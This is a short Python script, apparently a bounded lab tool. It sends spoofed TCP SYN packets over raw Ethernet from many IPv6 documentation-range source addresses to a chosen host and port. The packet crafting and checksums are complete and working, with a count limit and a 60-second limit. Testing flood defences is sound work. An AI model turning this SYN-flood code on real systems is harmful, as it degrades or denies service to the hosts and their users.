#!/usr/bin/python3
"""Send spoofed TCP SYNs from many IPv6 sources in 2001:db8:f::/64, as raw Ethernet frames.

    flood.py IFNAME SRC_MAC DST_MAC DST_ADDR DST_PORT SRC_PORT COUNT

Bounded by COUNT and by 60 seconds.  The sources are documentation addresses.
"""

import socket
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(int.from_bytes(data[i : i + 2], "big") for i in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    ifname, src_mac, dst_mac, dst, dport, sport, count = sys.argv[1:8]
    dst_addr = socket.inet_pton(socket.AF_INET6, dst)
    ether = (
        bytes.fromhex(dst_mac.replace(":", ""))
        + bytes.fromhex(src_mac.replace(":", ""))
        + b"\x86\xdd"
    )
    base = socket.inet_pton(socket.AF_INET6, "2001:db8:f::")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((ifname, 0))
        deadline = time.monotonic() + 60
        for i in range(int(count)):
            if time.monotonic() > deadline:
                break
            src = base[:8] + (i + 1).to_bytes(8, "big")
            tcp = bytearray(
                int(sport).to_bytes(2, "big")
                + int(dport).to_bytes(2, "big")
                + (i).to_bytes(4, "big")
                + bytes(4)
                + b"\x50\x02\xff\xff"
                + bytes(4)
            )
            pseudo = src + dst_addr + len(tcp).to_bytes(4, "big") + b"\0\0\0\x06"
            tcp[16:18] = checksum(pseudo + bytes(tcp)).to_bytes(2, "big")
            ip6 = b"\x60\0\0\0" + len(tcp).to_bytes(2, "big") + b"\x06\x40" + src + dst_addr
            raw.send(ether + ip6 + bytes(tcp))
    print(f"sent {count}", flush=True)


if __name__ == "__main__":
    main()
